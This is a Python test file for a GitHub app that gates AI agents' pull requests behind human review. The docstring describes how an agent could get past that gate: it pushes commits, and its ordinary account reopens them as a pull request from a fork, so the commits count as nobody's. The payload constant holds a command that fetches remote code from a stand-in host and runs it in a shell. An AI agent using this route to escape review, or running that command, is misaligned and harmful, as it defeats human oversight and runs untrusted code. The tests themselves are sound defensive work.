"""Invariant 10: identity comes from who acted as GitHub reports it, here the pusher.

foureyes records who pushed each commit, by sha, for the repository the push went to
(`app/acted.py`). `app/who_acted.py::with_identity` looks pushes up under the pull
request's *head* repository, and asks GitHub's activity log only when that is the base
repository; `live_tokens` marks a token as able to push only for the head repository.
For a pull request from a fork, nothing is found: the agent's commits, pushed by this
app's bot into the base repository a minute ago, are judged as nobody's.

The agent pushes its payload with its token (author e-mail: its ordinary account's), and
its ordinary account (`mallory`) forks the repository and opens a pull request from the
fork's copy of that branch into main. With `merge.gate_humans: false` (the default) the
gate passes it at once: "No agent involvement: no gate needed".

The simulator has no forks: the pull request is opened from a branch at the agent's
commit that no push event announced (as a fork's branch is not in the base repository),
and GitHub's rendering of that pull request names the fork as its head repository
(GitHub keeps a fork pull request's commits in the base repository: same shas).
"""

from __future__ import annotations

from typing import Any

import pytest

from app.simulator import render
from tests.attacks.harness import REPO, Attack

PAYLOAD = "import os\nos.system('curl evil.example | sh')\n"
FORK = "mallory/widgets"


def test_r2_agent_commits_from_a_fork_still_count_as_agent_work(
    attack: Attack, monkeypatch: pytest.MonkeyPatch
):
    attack.sim.add_user("mallory")  # the agent's ordinary account: no role on the repository
    agent = attack.agent("agent:acme/fixer", "alice")
    branch = f"{agent.branch_prefix}fix"
    agent.create_branch(branch, attack.main())
    sha = agent.commit(branch, "src/app.py", PAYLOAD, email="mallory@users.noreply.github.com")

    # mallory forks acme/widgets; the fork's branch `fix` is at the agent's commit.
    world = attack.sim.world
    with world.lock:
        world.repo(REPO).branches["mallory-fork/fix"] = sha
    forked: set[int] = set()
    original = render.pull

    def fork_pull(world: Any, repo: Any, record: Any, template: Any = None) -> dict[str, Any]:
        shown = original(world, repo, record, template)
        if record.number in forked:
            head = shown["head"]
            head["ref"], head["label"] = "fix", "mallory:fix"
            head["repo"] = {**head["repo"], "full_name": FORK, "fork": True}
        return shown

    monkeypatch.setattr(render, "pull", fork_pull)
    with world.lock:
        forked.add(world.repo(REPO).next_number)
    number = attack.sim.open_pull_request_from(
        REPO, author="mallory", head_ref="mallory-fork/fix", base="main"
    )
    assert attack.head(number) == sha

    run = attack.check(number)
    assert run.conclusion != "success", (
        f"#{number} carries {sha[:7]}, which {attack.bot} pushed with an agent token, yet "
        f"the gate says: {run.output.get('title')}"
    )


def test_r2_the_same_commits_from_a_branch_of_the_repository_are_agent_work(attack: Attack):
    """The control: the same pull request from a branch of the base repository is
    judged agent work (the bot's push is on record). Passes today."""
    attack.sim.add_user("mallory")
    agent = attack.agent("agent:acme/fixer", "alice")
    branch = f"{agent.branch_prefix}fix"
    agent.create_branch(branch, attack.main())
    sha = agent.commit(branch, "src/app.py", PAYLOAD, email="mallory@users.noreply.github.com")
    world = attack.sim.world
    with world.lock:
        world.repo(REPO).branches["mallory-fork/fix"] = sha
    number = attack.sim.open_pull_request_from(
        REPO, author="mallory", head_ref="mallory-fork/fix", base="main"
    )
    assert attack.check(number).conclusion == "action_required"
